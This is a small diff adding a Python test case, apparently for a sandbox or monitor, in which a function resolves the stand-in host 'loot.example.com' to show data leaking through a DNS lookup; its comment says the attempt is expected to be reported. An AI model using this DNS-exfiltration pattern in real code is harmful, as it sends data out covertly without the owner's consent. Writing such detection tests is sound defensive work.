@@ -1,0 +1,5 @@
+# tries: leak data in a name to resolve; expect: told
+def answer():
+    import socket
+
+    return socket.getaddrinfo('loot.example.com', 80)
